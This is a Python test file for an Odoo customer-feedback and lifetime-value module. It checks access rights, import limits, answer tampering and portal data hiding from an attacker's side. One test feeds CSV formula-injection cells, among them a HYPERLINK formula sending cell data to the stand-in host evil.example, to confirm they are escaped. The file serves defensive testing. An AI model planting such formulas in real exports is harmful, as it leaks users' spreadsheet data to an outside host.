# Copyright 2026 customer_centricity contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl-3.0).
"""Trust: bad input is refused and writes nothing; customer answers cannot be
rewritten by the people they count for; customers see no lifetime value.

Played as an attacker: real XML-RPC calls for every role, HTTP for the public
answer page; each refusal is checked together with what stayed unchanged.
"""

import base64
import csv
import io
from contextlib import closing

from odoo import api, sql_db
from odoo.exceptions import UserError
from odoo.tests import tagged

from ..lib import input_limits
from .common_rpc import RpcCase

FEEDBACK_WIZARD = "customer.feedback.import"
HISTORY_WIZARD = "customer.value.history.import"


def b64(content):
    return base64.b64encode(
        content.encode() if isinstance(content, str) else content
    ).decode()


class TrustCase(RpcCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer = cls.env["res.partner"].create(
            {
                "name": "Trust Kunde AG",
                "is_company": True,
                "ref": "K-TRUST-1",
                "user_id": cls.employee.id,
            }
        )
        cls.Feedback = cls.env["customer.feedback"]

    def _feedbacks(self):
        return self.Feedback.search([("partner_id", "=", self.customer.id)])

    def _history(self):
        return self.env["customer.value.history"].search(
            [("partner_id", "=", self.customer.id)]
        )


@tagged("post_install", "-at_install")
class TestImportRights(TrustCase):
    def _upload(self, content, model=FEEDBACK_WIZARD, user=None, **vals):
        return self.rpc(
            user or self.manager,
            model,
            "create",
            {"file": b64(content), "filename": "answers.csv", **vals},
        )

    def _wizard(self, model, wizard_id):
        wizard = self.env[model].browse(wizard_id)
        wizard.invalidate_recordset()
        return wizard

    def test_action_import_twice_imports_once(self):
        wizard_id = self._upload("customer;date;nps\nK-TRUST-1;2026-03-31;9\n")
        self.rpc(self.manager, FEEDBACK_WIZARD, "action_import", [wizard_id])
        self.assertEqual(len(self._feedbacks()), 1)
        wizard = self._wizard(FEEDBACK_WIZARD, wizard_id)
        self.assertEqual((wizard.state, wizard.imported_count), ("done", 1))
        for method in ("action_import", "action_check"):
            self.assertRpcRefused(
                self.manager,
                FEEDBACK_WIZARD,
                method,
                [wizard_id],
                message="already been imported",
            )
        self.assertEqual(len(self._feedbacks()), 1)
        self.assertUnchanged(wizard, {"state": "done", "imported_count": 1})

    def test_history_import_twice_imports_once(self):
        wizard_id = self._upload(
            "customer,date,amount\nK-TRUST-1,2024-03-31,100\n", model=HISTORY_WIZARD
        )
        self.rpc(self.manager, HISTORY_WIZARD, "action_import", [wizard_id])
        self.assertRpcRefused(
            self.manager,
            HISTORY_WIZARD,
            "action_import",
            [wizard_id],
            message="already been imported",
        )
        self.assertEqual(self._history().mapped("amount"), [100])

    def test_users_cannot_reset_the_state_of_an_import(self):
        wizard_id = self._upload("customer;date;nps\nK-TRUST-1;2026-03-31;9\n")
        self.rpc(self.manager, FEEDBACK_WIZARD, "action_import", [wizard_id])
        for user in (self.manager, self.admin):
            for vals in ({"state": "draft"}, {"imported_count": 0}):
                self.assertRpcRefused(
                    user,
                    FEEDBACK_WIZARD,
                    "write",
                    [wizard_id],
                    vals,
                    message="Only the check and the import",
                )
        wizard = self._wizard(FEEDBACK_WIZARD, wizard_id)
        self.assertUnchanged(wizard, {"state": "done", "imported_count": 1})
        self.assertRpcRefused(
            self.manager,
            FEEDBACK_WIZARD,
            "create",
            {"file": b64("customer;date;nps\n"), "state": "done"},
            message="Only the check and the import",
        )
        self.assertEqual(len(self._feedbacks()), 1)

    def test_employees_cannot_import(self):
        self.assertRpcRefused(
            self.employee,
            FEEDBACK_WIZARD,
            "create",
            {"file": b64("customer;date;nps\nK-TRUST-1;2026-03-31;9\n")},
        )
        self.assertFalse(self._feedbacks())

    def test_a_concurrent_second_import_is_refused(self):
        """Two transactions: while the first imports, the second writes nothing.

        Real database connections outside the test transaction, so the row
        lock is real; the wizard is committed and deleted again.
        """
        dbname = self.env.cr.dbname
        admin_id = self.env.ref("base.user_admin").id
        content = b64("customer;date;nps\nK-UNKNOWN-TRUST;2026-03-31;9\n")
        with closing(sql_db.db_connect(dbname).cursor()) as setup_cr:
            setup_env = api.Environment(setup_cr, admin_id, {})
            wizard_id = setup_env[FEEDBACK_WIZARD].create({"file": content}).id
            setup_cr.commit()
            try:
                with (
                    closing(sql_db.db_connect(dbname).cursor()) as first_cr,
                    closing(sql_db.db_connect(dbname).cursor()) as second_cr,
                ):
                    first = api.Environment(first_cr, admin_id, {})
                    first[FEEDBACK_WIZARD].browse(wizard_id).action_import()
                    # the first import has not committed yet
                    second = api.Environment(second_cr, admin_id, {})
                    wizard = second[FEEDBACK_WIZARD].browse(wizard_id)
                    with self.assertRaisesRegex(UserError, "being imported right now"):
                        wizard.action_import()
                    second_cr.rollback()
                    second_cr.execute(
                        "SELECT state FROM customer_feedback_import WHERE id = %s",
                        [wizard_id],
                    )
                    self.assertEqual(second_cr.fetchone(), ("draft",))
                    first_cr.rollback()
            finally:
                setup_cr.execute(
                    "DELETE FROM customer_feedback_import WHERE id = %s", [wizard_id]
                )
                setup_cr.commit()

    def test_undecodable_file_gives_a_clear_error(self):
        wizard_id = self._upload(b"customer;date;nps\nK-TRUST-1;2026-03-31;9\x81\n")
        self.assertRpcRefused(
            self.manager,
            FEEDBACK_WIZARD,
            "action_import",
            [wizard_id],
            message="byte 0x81 at position 40 is neither UTF-8 nor Windows-1252",
        )
        self.assertFalse(self._feedbacks())
        self.assertUnchanged(
            self._wizard(FEEDBACK_WIZARD, wizard_id), {"state": "draft"}
        )
        # Excel's Windows-1252 stays readable
        wizard_id = self._upload(
            "customer;date;nps;comment\nK-TRUST-1;2026-03-31;9;Grüße\n".encode("cp1252")
        )
        self.rpc(self.manager, FEEDBACK_WIZARD, "action_import", [wizard_id])
        self.assertEqual(self._feedbacks().comment, "Grüße")

    def test_oversized_cells_are_refused(self):
        header = "customer;date;nps;comment\n"
        for row, message in (
            (f"{'K' * 1001};2026-03-31;9;\n", "customer cell holds 1001 characters"),
            (f"K-TRUST-1;2026-03-31;9;{'x' * 5001}\n", "comment cell holds 5001"),
            (f"K-TRUST-1;2026-03-31;9;{'x' * 3_000_000}\n", "Line 2"),
            (f"K-TRUST-1;2026-03-31;9;ok;{'y' * 1001}\n", "extra cell holds 1001"),
        ):
            wizard_id = self._upload(header + row, import_valid_rows=True)
            fault = self.assertRpcRefused(
                self.manager, FEEDBACK_WIZARD, "action_import", [wizard_id]
            )
            self.assertRegex(fault.faultString, message)
            self.assertIn("Nothing was imported", fault.faultString)
            self.assertLess(len(fault.faultString), 5000)  # not echoed back
        self.assertFalse(self._feedbacks())
        wizard_id = self._upload(f"{header}K-TRUST-1;2026-03-31;9;{'x' * 5000}\n")
        self.rpc(self.manager, FEEDBACK_WIZARD, "action_import", [wizard_id])
        self.assertEqual(len(self._feedbacks().comment), 5000)

    def test_oversized_file_is_refused(self):
        line = "K-TRUST-1;2026-03-31;9;" + "x" * 970 + "\n"
        rows = input_limits.MAX_FILE_BYTES // len(line) + 1
        content = "customer;date;nps;comment\n" + line * rows
        self.assertGreater(len(content), input_limits.MAX_FILE_BYTES)
        self.assertRpcRefused(
            self.manager,
            FEEDBACK_WIZARD,
            "create",
            {"file": b64(content), "filename": "big.csv"},
            message="at most 20 MB",
        )
        self.assertFalse(self._feedbacks())
        self.assertFalse(
            self.env[FEEDBACK_WIZARD].search([("filename", "=", "big.csv")])
        )

    def test_rejected_rows_csv_holds_no_formula(self):
        wizard_id = self._upload(
            "customer;date;nps;comment;=cmd\n"
            '=HYPERLINK("http://evil.example/?"&A1,"Click");2026-03-31;9;ok;x\n'
            "K-TRUST-1;2026-03-31;42;+1+2;-3\n"
            '@SUM(A1);2026-03-31;9;"\tTAB";"\rCR"\n'
        )
        self.rpc(self.manager, FEEDBACK_WIZARD, "action_check", [wizard_id])
        (wizard,) = self.rpc(
            self.manager, FEEDBACK_WIZARD, "read", [wizard_id], ["rejected_file"]
        )
        text = base64.b64decode(wizard["rejected_file"]).decode()
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(
            rows[0], ["customer", "date", "nps", "comment", "'=cmd", "error"]
        )
        self.assertEqual(rows[1][0], '\'=HYPERLINK("http://evil.example/?"&A1,"Click")')
        self.assertEqual(rows[2][3:5], ["'+1+2", "'-3"])
        self.assertEqual(rows[3][0], "'@SUM(A1)")
        self.assertEqual(rows[3][3:5], ["'\tTAB", "'\rCR"])
        cells = [cell for row in rows for cell in row]
        self.assertFalse([c for c in cells if c.startswith(input_limits.FORMULA_START)])
        self.assertFalse(self._feedbacks())


@tagged("post_install", "-at_install")
class TestFeedbackPageInput(TrustCase):
    def setUp(self):
        super().setUp()
        self.request = self.Feedback._request(self.customer)
        self.url = f"/customer-feedback/{self.request.access_token}"
        self.aspect = self.env.ref("customer_centricity.question_aspect_fast")

    def assertNothingWritten(self, response, message):
        self.assertEqual(response.status_code, 400)
        self.assertIn(message, response.text)
        self.assertUnchanged(
            self.request,
            {
                "state": "requested",
                "nps_score": False,
                "csat_score": False,
                "comment": False,
                "rating_ids": [],
                "access_token": self.request.access_token,
            },
        )

    def test_files_are_refused(self):
        for files in (
            {"comment": ("note.txt", b"hello", "text/plain")},
            {"whatever": ("x.bin", b"\x00\x01", "application/octet-stream")},
        ):
            response = self.url_open(self.url, data={"nps": "9"}, files=files)
            self.assertNothingWritten(response, "Files cannot be sent")

    def test_repeated_keys_are_refused(self):
        for data in (
            [("nps", "9"), ("nps", "0")],
            [("nps", "9"), (f"aspect_{self.aspect.id}", "5")] * 2,
            [("nps", "9"), ("comment", "a"), ("comment", "b")],
        ):
            response = self.url_open(self.url, data=data)
            self.assertNothingWritten(response, "Each question takes one answer")
        response = self.url_open(f"{self.url}?nps=1&nps=2", data={"nps": "9"})
        self.assertNothingWritten(response, "Each question takes one answer")

    def test_oversized_values_are_refused(self):
        limit = input_limits.MAX_COMMENT_CHARS
        response = self.url_open(
            self.url, data={"nps": "9", "comment": "x" * (limit + 1)}
        )
        self.assertNothingWritten(response, "please shorten it")
        for data in (
            {"nps": "9" * 1000},
            {"nps": "9", f"aspect_{self.aspect.id}": "5" * 1000},
            {"nps": "9", f"aspect_{'1' * 1000}": "5"},
        ):
            response = self.url_open(self.url, data=data)
            self.assertNothingWritten(response, "plain text answers only")

    def test_plain_answer_is_taken_and_unknown_keys_ignored(self):
        comment = "y" * input_limits.MAX_COMMENT_CHARS
        response = self.url_open(
            self.url,
            data={"nps": "9", "comment": comment, "utm_source": "newsletter"},
        )
        self.assertEqual(response.status_code, 200)
        self.request.invalidate_recordset()
        self.assertEqual(
            (self.request.state, self.request.nps_score, self.request.comment),
            ("answered", "9", comment),
        )
        self.assertEqual(self.request.channel, "link")


@tagged("post_install", "-at_install")
class TestFeedbackRewrite(TrustCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.aspect = cls.env.ref("customer_centricity.question_aspect_fast")
        cls.link_answer = cls.Feedback._request(cls.customer)
        cls.link_answer._submit_answer(
            nps="3", csat="2", comment="Slow", aspects={str(cls.aspect.id): "2"}
        )
        cls.imported = cls.Feedback.create(
            {
                "partner_id": cls.customer.id,
                "channel": "import",
                "nps_score": "4",
                "date": "2026-03-31",
            }
        )
        cls.hand = cls.Feedback.browse(
            cls.Feedback.with_user(cls.employee)
            .create({"partner_id": cls.customer.id, "nps_score": "8"})
            .id
        )
        cls.requested = cls.Feedback._request(cls.customer)

    def _snapshot(self, feedback):
        return {
            name: feedback[name]
            for name in (
                "partner_id",
                "nps_score",
                "csat_score",
                "ces_score",
                "comment",
                "date",
                "channel",
                "state",
                "collected_by_id",
                "rating_ids",
                "access_token",
                "token_expiry",
                "follow_up_scheduled",
            )
        }

    def test_the_form_shows_who_may_change_an_answer(self):
        for user, record, expected in (
            (self.employee, self.link_answer, False),
            (self.employee, self.imported, False),
            (self.employee, self.hand, True),
            (self.manager, self.link_answer, True),
        ):
            with self.subTest(user=user.login, channel=record.channel):
                [read] = self.rpc(
                    user,
                    "customer.feedback",
                    "read",
                    [record.id],
                    ["can_change_answer"],
                )
                self.assertEqual(read["can_change_answer"], expected)

    def test_account_manager_and_team_leader_cannot_rewrite_collected_answers(self):
        other = self.env["res.partner"].create({"name": "Andere Firma"})
        rewrites = (
            {"nps_score": "10"},
            {"csat_score": "5", "comment": "All fine"},
            {"comment": ""},
            {"date": "2026-01-01"},
            {"partner_id": other.id},
            {"collected_by_id": self.employee.id},
            {"rating_ids": [(5, 0, 0)]},
        )
        for feedback in (self.link_answer, self.imported):
            self.assertEqual(feedback.user_id, self.employee)
            before = self._snapshot(feedback)
            for user in (self.employee, self.leader, self.colleague, self.outsider):
                for vals in rewrites:
                    self.assertRpcRefused(
                        user, "customer.feedback", "write", [feedback.id], vals
                    )
            self.assertUnchanged(feedback, before)
        fault = self.assertRpcRefused(
            self.employee,
            "customer.feedback",
            "write",
            [self.link_answer.id],
            {"nps_score": "10"},
        )
        self.assertIn("only corrected by a manager", fault.faultString)
        # the account manager still follows the answer up
        self.rpc(
            self.employee,
            "customer.feedback",
            "message_post",
            [self.link_answer.id],
            body="Called back",
        )

    def test_aspect_ratings_of_collected_answers_cannot_be_rewritten(self):
        rating = self.link_answer.rating_ids
        self.assertEqual(rating.score, 2)
        for user in (self.employee, self.leader):
            self.assertRpcRefused(
                user, "customer.feedback.rating", "write", rating.ids, {"score": 5}
            )
            self.assertRpcRefused(
                user, "customer.feedback.rating", "unlink", rating.ids
            )
            self.assertRpcRefused(
                user,
                "customer.feedback.rating",
                "create",
                {
                    "feedback_id": self.imported.id,
                    "question_id": self.aspect.id,
                    "score": 5,
                },
            )
        self.assertUnchanged(rating, {"score": 2, "feedback_id": self.link_answer})
        self.assertFalse(self.imported.rating_ids)

    def test_nobody_answers_a_request_for_the_customer(self):
        before = self._snapshot(self.requested)
        for user in (self.employee, self.leader, self.manager, self.admin):
            for vals in (
                {"state": "answered", "nps_score": "10"},
                {"access_token": "mine"},
                {"token_expiry": "2099-01-01 00:00:00"},
                {"follow_up_scheduled": True},
                {"channel": "in_person"},
            ):
                self.assertRpcRefused(
                    user,
                    "customer.feedback",
                    "write",
                    [self.requested.id],
                    vals,
                    message="Only the server sets",
                )
        self.assertRpcRefused(
            self.employee,
            "customer.feedback",
            "write",
            [self.requested.id],
            {"nps_score": "10"},
            message="only corrected by a manager",
        )
        self.assertUnchanged(self.requested, before)

    def test_users_cannot_create_collected_answers_or_links(self):
        count = len(self._feedbacks())
        for user in (self.employee, self.manager, self.admin):
            for vals in (
                {"channel": "link"},
                {"channel": "import"},
                {"state": "requested", "nps_score": False},
                {"access_token": "guess"},
                {"follow_up_scheduled": True},
            ):
                self.assertRpcRefused(
                    user,
                    "customer.feedback",
                    "create",
                    {"partner_id": self.customer.id, "nps_score": "10", **vals},
                    message="Only the server sets",
                )
            self.assertRpcRefused(
                user, "customer.feedback", "copy", [self.link_answer.id]
            )
        self.assertEqual(len(self._feedbacks()), count)
        self.assertRpcRefused(
            self.employee,
            "customer.feedback",
            "write",
            [self.hand.id],
            {"channel": "link"},
            message="Only the server sets",
        )
        self.assertUnchanged(self.hand, {"channel": "in_person"})

    def test_answers_entered_by_hand_stay_editable_by_their_collector(self):
        self.rpc(
            self.employee,
            "customer.feedback",
            "write",
            [self.hand.id],
            {"nps_score": "9", "comment": "Typo fixed", "channel": "phone"},
        )
        self.hand.invalidate_recordset()
        self.assertEqual(
            (self.hand.nps_score, self.hand.comment, self.hand.channel),
            ("9", "Typo fixed", "phone"),
        )
        new_id = self.rpc(
            self.employee,
            "customer.feedback",
            "create",
            {"partner_id": self.customer.id, "csat_score": "4", "state": "answered"},
        )
        self.assertEqual(self.Feedback.browse(new_id).collected_by_id, self.employee)

    def test_managers_correct_collected_answers_and_it_is_tracked(self):
        for user, feedback, score in (
            (self.manager, self.link_answer, "5"),
            (self.admin, self.imported, "6"),
        ):
            old = feedback.nps_score
            self.rpc(
                user,
                "customer.feedback",
                "write",
                [feedback.id],
                {"nps_score": score, "comment": "Corrected: typo in the import"},
            )
            feedback.invalidate_recordset()
            self.assertEqual(feedback.nps_score, score)
            tracking = self.env["mail.tracking.value"].search(
                [
                    ("mail_message_id.model", "=", "customer.feedback"),
                    ("mail_message_id.res_id", "=", feedback.id),
                    ("mail_message_id.author_id", "=", user.partner_id.id),
                    ("field_id.name", "=", "nps_score"),
                ]
            )
            self.assertEqual(
                [(t.old_value_char, t.new_value_char) for t in tracking], [(old, score)]
            )
        self.rpc(
            self.manager,
            "customer.feedback.rating",
            "write",
            self.link_answer.rating_ids.ids,
            {"score": 3},
        )
        self.assertEqual(self.link_answer.rating_ids.score, 3)


@tagged("post_install", "-at_install")
class TestLifetimeValueHiddenFromCustomers(TrustCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["customer.value"].create(
            {
                "partner_id": cls.portal_customer.id,
                "company_id": cls.company.id,
                "historic_clv": 12345,
                "predicted_clv": 23456,
                "ranking_value": 23456,
                "probability_alive": 0.9,
                "segment": "champions",
                "tier": "top10",
                "order_count": 7,
            }
        )
        cls.clv_fields = [
            name for name in cls.env["res.partner"]._fields if name.startswith("clv_")
        ]

    def test_employees_see_the_figures(self):
        (partner,) = self.rpc(
            self.employee,
            "res.partner",
            "read",
            [self.portal_customer.id],
            ["clv_historic", "clv_tier"],
        )
        self.assertEqual(
            (partner["clv_historic"], partner["clv_tier"]), (12345, "top10")
        )
        found = self.rpc(
            self.employee, "res.partner", "search", [("clv_tier", "=", "top10")]
        )
        self.assertIn(self.portal_customer.id, found)

    def test_portal_users_see_no_figure_by_any_route(self):
        portal, own = self.portal, [self.portal_customer.id]
        # the portal user reads their company, so the refusals below are the
        # figures' own
        (partner,) = self.rpc(portal, "res.partner", "read", own, ["name"])
        self.assertEqual(partner["name"], "Portal Kunde GmbH")
        self.assertGreater(len(self.clv_fields), 10)
        for name in [*self.clv_fields, "customer_value_id"]:
            self.assertRpcRefused(portal, "res.partner", "read", own, [name])
            self.assertRpcRefused(
                portal, "res.partner", "search_read", [("id", "in", own)], [name]
            )
            self.assertRpcRefused(portal, "res.partner", "web_read", own, {name: {}})
        for domain in (
            [("clv_tier", "=", "top10")],
            [("clv_historic", ">", 0)],
            [("clv_probability_alive", ">", 0.5)],
            [("customer_value_id.historic_clv", ">", 0)],
            [("parent_id.clv_historic", ">", 0)],
            [("child_ids.clv_segment", "=", "champions")],
        ):
            self.assertRpcRefused(portal, "res.partner", "search", domain)
            self.assertRpcRefused(portal, "res.partner", "search_count", domain)
        self.assertRpcRefused(
            portal, "res.partner", "read_group", [], ["clv_segment"], ["clv_segment"]
        )
        self.assertRpcRefused(
            portal, "res.partner", "read_group", [], ["clv_historic:sum"], ["name"]
        )
        self.assertRpcRefused(
            portal, "res.partner", "export_data", own, ["clv_historic"]
        )
        # no figure among the fields a portal user may read
        fields = self.rpc(portal, "res.partner", "fields_get")
        self.assertFalse([key for key in fields if key.startswith("clv_")])
        for model in ("customer.value", "customer.value.history"):
            self.assertRpcRefused(portal, model, "search_read", [], ["partner_id"])
